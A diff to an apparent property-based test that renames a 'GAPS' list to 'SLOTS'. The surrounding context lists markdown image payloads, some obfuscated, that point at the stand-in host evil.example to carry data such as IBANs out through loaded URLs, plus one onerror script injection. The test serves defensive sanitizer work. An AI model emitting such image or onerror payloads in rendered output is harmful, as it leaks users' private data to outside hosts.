@@ -167,7 +167,7 @@ const random = fc
   .array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 24 })
   .map((pieces) => pieces.join(""));
 
-/** Forms that a renderer may read as a URL that a page loads; a value fills each gap. */
+/** Forms that a renderer may read as a URL that a page loads; a value fills each slot. */
 const FORMS = [
   ...["![x](https://evil.example/?q=~~~)", "![x](~https://evil.example/~~)", "![x](/own?q=~~)"],
   ...["![x] (/&Tab;/evil.example/?q=~~)", "![x]~(//evil.example/~~)", "![x](<//evil.example/~~>)"],
@@ -201,7 +201,7 @@ const FORMS = [
     "![x](/y){: onerror=\"f('/'+'/e/ ~')\"}",
   ],
 ];
-const GAPS = [
+const SLOTS = [
   ...[...VALUES.keys()].slice(0, 3),
   ...[" ", " ", "\t", "\n", "\r\n", "&Tab;", "a", ")", '"', "", ""],
   ...[` https://${GOOD}/?a=[IBAN_1]`, ` https://${GOOD}/[PERSON_1] `, `(https://${GOOD}/[IBAN_1])`],
@@ -210,14 +210,14 @@ const formed = fc
   .array(
     fc.tuple(
       fc.constantFrom(...FORMS),
-      fc.array(fc.constantFrom(...GAPS), { minLength: 6, maxLength: 6 }),
+      fc.array(fc.constantFrom(...SLOTS), { minLength: 6, maxLength: 6 }),
     ),
     { minLength: 1, maxLength: 2 },
   )
   .map((parts) =>
     parts
-      .map(([form, gaps]) =>
-        form.split("~").reduce((text, piece, at) => text + (gaps[at % 6] ?? "") + piece),
+      .map(([form, slots]) =>
+        form.split("~").reduce((text, piece, at) => text + (slots[at % 6] ?? "") + piece),
       )
       .join("\n\n"),
   );
